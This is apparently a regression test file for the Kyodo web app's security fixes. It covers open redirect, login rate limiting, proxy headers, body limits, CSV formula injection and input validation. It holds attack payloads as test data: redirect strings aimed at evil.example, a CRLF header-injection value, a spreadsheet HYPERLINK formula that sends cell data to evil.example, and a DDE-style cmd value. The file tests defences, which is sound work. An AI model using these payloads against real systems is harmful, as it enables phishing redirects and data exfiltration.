// Issue #11: security hardening. Each test here failed before its fix.
import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import iconv from 'iconv-lite'
import { LOGIN_FAILURE_LIMIT } from './core/auth/service.ts'
import { acquireLock, rows } from './core/db/index.ts'
import { safeNext } from './features/account/routes.tsx'
import { DEMO_PASSWORD } from './demo/index.ts'
import { createTestApp, type TestApp } from './testing/harness.ts'

const NUL_MESSAGE = '入力に使用できない文字が含まれています'

let t: TestApp
before(async () => {
  t = await createTestApp()
})
after(async () => t.close())

describe('#11.1 open redirect after login', () => {
  test('safeNext accepts only same-origin paths', () => {
    for (const bad of [
      '/\t/evil.example/x',
      '/\n/evil.example',
      '/\r\nSet-Cookie: x=1',
      '//evil.example',
      '/\\evil.example',
      '\\\\evil.example',
      'http://evil.example/',
      'https:evil.example',
      ' /x',
      '/ /evil.example',
      '/\u0000',
      '/\u3000/evil.example',
      'javascript:alert(1)',
      '',
    ])
      assert.equal(safeNext(bad), '/', JSON.stringify(bad))
    for (const good of ['/', '/groups', '/groups?q=%E3%81%82&x=1', '/account#mfa', '/groups/abc/edit'])
      assert.equal(safeNext(good), good)
    assert.equal(safeNext(undefined), '/')
    assert.equal(safeNext(['/groups']), '/')
  })

  test('GET /login?next=/\\t/evil.example then login redirects to /', async () => {
    const cl = t.client()
    const page = await cl.get('/login?next=%2F%09%2Fevil.example%2Fx')
    assert.equal(page.status, 200)
    const html = await page.text()
    const m = html.match(/name="next" value="([^"]*)"/)
    const next = m ? m[1].replace(/&#9;/g, '\t') : '/\t/evil.example/x'
    const res = await cl.post('/login', { email: 'group@demo.example', password: DEMO_PASSWORD, next })
    assert.equal(res.status, 303)
    assert.equal(res.headers.get('location'), '/')
  })

  test('a newline in next is not a 500', async () => {
    const cl = t.client()
    await cl.get('/login')
    const res = await cl.post('/login', {
      email: 'group@demo.example',
      password: DEMO_PASSWORD,
      next: '/\r\nSet-Cookie: x=1',
    })
    assert.equal(res.status, 303)
    assert.equal(res.headers.get('location'), '/')
  })
})

describe('#11.2 login limit under parallel requests', () => {
  test('20 parallel wrong logins: at most LOGIN_FAILURE_LIMIT are checked, the rest 429', async () => {
    const results = await Promise.all(
      Array.from({ length: 20 }, () =>
        t.app.request('/api/v1/auth/login', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ email: 'reviewer@demo.example', password: 'wrong-password-xyz' }),
        }),
      ),
    )
    const statuses = results.map((r) => r.status)
    const checked = statuses.filter((s) => s === 401).length
    const limited = statuses.filter((s) => s === 429).length
    assert.ok(checked <= LOGIN_FAILURE_LIMIT, `checked ${checked}: ${statuses.join(',')}`)
    assert.equal(checked + limited, 20, statuses.join(','))
    // and the right password is refused too while limited
    const cl = t.client()
    await cl.get('/login')
    const res = await cl.post('/login', { email: 'reviewer@demo.example', password: DEMO_PASSWORD })
    assert.equal(res.status, 429)
  })

  test('successful logins do not use up the address limit', async () => {
    for (let i = 0; i < 35; i++) {
      const res = await t.app.request('/api/v1/auth/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-real-ip': '192.0.2.99' },
        body: JSON.stringify({ email: 'staff@demo.example', password: DEMO_PASSWORD }),
      })
      assert.equal(res.status, 200, `login ${i}`)
    }
  })
})

describe('#11.3 X-Forwarded-For from the right end', () => {
  test('KYODO_TRUST_PROXY=1 takes the address the proxy appended, not the one the client sent', async () => {
    const p = await createTestApp({ env: { KYODO_TRUST_PROXY: '1' } })
    try {
      const res = await p.app.request('/api/v1/auth/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': '6.6.6.6, 203.0.113.7' },
        body: JSON.stringify({ email: 'nobody-xff@demo.example', password: 'x' }),
      })
      assert.equal(res.status, 401)
      const r = await rows<{ ip: string }>(
        p.database.db,
        sql`SELECT ip FROM audit_log WHERE action = 'auth.login.failure' ORDER BY at DESC LIMIT 1`,
      )
      assert.equal(r[0].ip, '203.0.113.7')
    } finally {
      await p.close()
    }
  })

  test('KYODO_TRUSTED_PROXIES=N picks the N-th entry from the right', async () => {
    const { forwardedClient } = await import('./core/http/middleware.ts')
    assert.equal(forwardedClient('6.6.6.6, 198.51.100.1, 10.0.0.1', 2), '198.51.100.1')
    assert.equal(forwardedClient('6.6.6.6, 198.51.100.1, 10.0.0.1', 1), '10.0.0.1')
    assert.equal(forwardedClient('198.51.100.1', 2), '198.51.100.1')
    assert.equal(forwardedClient(' , ', 1), null)
  })
})

describe('#11.4 request body limits', () => {
  const big = 'a'.repeat(2 * 1024 * 1024)

  test('a 2 MB multipart POST /login is refused with 413 before CSRF reads it', async () => {
    const fd = new FormData()
    fd.append('email', 'x@example.com')
    fd.append('password', big)
    const res = await t.app.request('/login', { method: 'POST', body: fd })
    assert.equal(res.status, 413)
    assert.match(await res.text(), /大きすぎ/)
  })

  test('a 2 MB JSON POST /api/v1/auth/login is refused with 413', async () => {
    const res = await t.app.request('/api/v1/auth/login', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: 'x@example.com', password: big }),
    })
    assert.equal(res.status, 413)
    const j = await res.json()
    assert.match(j.message, /大きすぎ/)
  })

  test('a streamed body without content-length is counted too', async () => {
    const chunk = new TextEncoder().encode('a'.repeat(64 * 1024))
    let n = 0
    const stream = new ReadableStream({
      pull(ctrl) {
        if (n++ < 40) ctrl.enqueue(chunk)
        else ctrl.close()
      },
    })
    const res = await t.app.request('/api/v1/auth/login', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: stream,
      duplex: 'half',
    } as RequestInit)
    assert.equal(res.status, 413)
  })

  test('upload routes take more than the default', async () => {
    const cl = await t.as('coordinator@demo.example')
    const fd = new FormData()
    fd.append('_csrf', cl.csrf)
    fd.append(
      'file',
      new File([`団体名\r\n${'x'.repeat(100)}\r\n`.repeat(15_000)], 'g.csv', { type: 'text/csv' }),
    )
    const res = await cl.request('POST', '/groups/import', { body: fd })
    assert.notEqual(res.status, 413)
    assert.notEqual(res.status, 500)
  })
})

describe('#11.5 formula injection in CSV exports', () => {
  const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
  before(async () => {
    await t.database.db.execute(
      sql`UPDATE groups SET name = ${PAYLOAD} WHERE id = (SELECT id FROM groups WHERE status = 'published' ORDER BY created_at LIMIT 1)`,
    )
  })
  const cellsOf = (text: string) => (parse(text.replace(/^\uFEFF/, '')) as string[][]).flat()

  test('/opendata/groups.csv writes the name as text, not a formula', async () => {
    const res = await t.app.request('/opendata/groups.csv')
    assert.equal(res.status, 200)
    const cells = cellsOf(await res.text())
    assert.ok(cells.includes(`'${PAYLOAD}`), 'neutralised name present')
    assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), 'no cell starts with = + - @ tab CR')
  })

  test('/groups/export.csv in UTF-8 and CP932', async () => {
    const cl = await t.as('coordinator@demo.example')
    for (const enc of ['utf-8', 'cp932']) {
      const res = await cl.get(`/groups/export.csv${enc === 'cp932' ? '?encoding=cp932' : ''}`)
      assert.equal(res.status, 200)
      const buf = Buffer.from(await res.arrayBuffer())
      const text = enc === 'cp932' ? iconv.decode(buf, 'cp932') : buf.toString('utf8')
      const cells = cellsOf(text)
      assert.ok(cells.includes(`'${PAYLOAD}`), enc)
      assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), enc)
    }
  })

  test('/groups/export.xlsx holds the name as a text cell, not a formula', async () => {
    const cl = await t.as('coordinator@demo.example')
    const res = await cl.get('/groups/export.xlsx')
    assert.equal(res.status, 200)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as any)
    const found: ExcelJS.Cell[] = []
    wb.eachSheet((ws) =>
      ws.eachRow((row) => row.eachCell((cell) => void (cell.text.includes('HYPERLINK') && found.push(cell)))),
    )
    assert.ok(found.length > 0)
    for (const cell of found) assert.equal(cell.type, ExcelJS.ValueType.String)
  })

  test('/admin/departments/export', async () => {
    await t.database.db.execute(
      sql`UPDATE departments SET name = ${'@SUM(1+1)*cmd|'} WHERE id = (SELECT id FROM departments ORDER BY created_at LIMIT 1)`,
    )
    const cl = await t.as('admin@demo.example')
    const res = await cl.get('/admin/departments/export')
    assert.equal(res.status, 200)
    const cells = cellsOf(await res.text())
    assert.ok(cells.includes("'@SUM(1+1)*cmd|"))
  })
})

describe('#11.7 NUL and unpaired surrogates are refused at the edge', () => {
  test('query strings', async () => {
    for (const p of ['/groups?q=%00', '/groups?legal_form=%00', '/needs?q=a%00b']) {
      const res = await t.app.request(p)
      assert.equal(res.status, 400, p)
      assert.match(await res.text(), new RegExp(NUL_MESSAGE), p)
    }
    for (const p of ['/api/v1/needs?q=%00', '/api/v1/groups?legal_form=%00', '/api/v1/audit?action=%00']) {
      const res = await t.app.request(p)
      assert.equal(res.status, 400, p)
      const j = await res.json()
      assert.equal(j.error, 'bad_input', p)
      assert.match(j.message, new RegExp(NUL_MESSAGE))
    }
  })

  test('form and JSON bodies', async () => {
    const cl = t.client()
    await cl.get('/login')
    const f = await cl.post('/login', { email: 'a\u0000@example.com', password: 'x' })
    assert.equal(f.status, 400)
    assert.match(await f.text(), new RegExp(NUL_MESSAGE))
    for (const body of [
      '{"email":"a\\u0000@example.com","password":"x"}',
      '{"email":"a@example.com","password":"\\ud800"}',
      '{"email":"a@example.com","password":"x","\\udc00":1}',
    ]) {
      const res = await t.app.request('/api/v1/auth/login', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body,
      })
      assert.equal(res.status, 400, body)
      assert.equal((await res.json()).error, 'bad_input')
    }
  })

  test('a well-formed surrogate pair (emoji) is fine', async () => {
    const res = await t.app.request(`/groups?q=${encodeURIComponent('😀')}`)
    assert.equal(res.status, 200)
  })
})

describe('#11.11 logout over https', () => {
  test('POST /api/v1/auth/logout with KYODO_HTTPS=1 answers 200 and clears the __Host- cookie', async () => {
    const s = await createTestApp({ env: { KYODO_HTTPS: '1' } })
    try {
      const cl = s.client()
      const r = await cl.json('POST', '/api/v1/auth/login', {
        email: 'group@demo.example',
        password: DEMO_PASSWORD,
      })
      assert.equal(r.status, 200)
      cl.csrf = (await r.json()).csrfToken
      const out = await cl.json('POST', '/api/v1/auth/logout')
      assert.equal(out.status, 200)
      const sc = out.headers.getSetCookie().find((x) => x.startsWith('__Host-kyodo_session='))
      assert.ok(sc && /Secure/i.test(sc) && /Path=\//.test(sc), String(sc))
    } finally {
      await s.close()
    }
  })
})

describe('#11.12 smaller', () => {
  test('a malformed flash cookie does not break pages', async () => {
    const res = await t.app.request('/', { headers: { cookie: 'kyodo_flash=%E0%A4%A' } })
    assert.equal(res.status, 200)
  })

  test('socialLinks with objects is a 422, not a 500', async () => {
    const cl = await t.as('group@demo.example')
    for (const socialLinks of [[{ toString: 1 }], { toString: 1 }, [{ valueOf: 1, toString: 1 }]]) {
      const res = await cl.json('POST', '/api/v1/groups', { name: 'テスト団体', socialLinks })
      assert.equal(res.status, 422, JSON.stringify(socialLinks))
    }
  })

  test('a stale lock whose pid now belongs to another live process is taken over', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kyodo-lock-'))
    const file = path.join(dir, 'kyodo.lock')
    const sleeper = spawn('sleep', ['30'], { stdio: 'ignore' })
    try {
      await new Promise((r) => setTimeout(r, 50))
      const pid = sleeper.pid!
      // A lock written by a Kyodo that has died; its pid was since given to `sleep`.
      fs.writeFileSync(file, JSON.stringify({ pid, start: '1', id: 'dead-instance' }))
      const release = acquireLock(file)
      assert.equal(JSON.parse(fs.readFileSync(file, 'utf8')).pid, process.pid)
      release()
      assert.equal(fs.existsSync(file), false)
      // A lock naming a live process with its own start time is a real owner: refused.
      if (process.platform === 'linux') {
        const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8')
        const start = stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19]
        fs.writeFileSync(file, JSON.stringify({ pid, start, id: 'other' }))
        assert.throws(() => acquireLock(file), /in use by another Kyodo process/)
      }
    } finally {
      sleeper.kill()
    }
  })
})
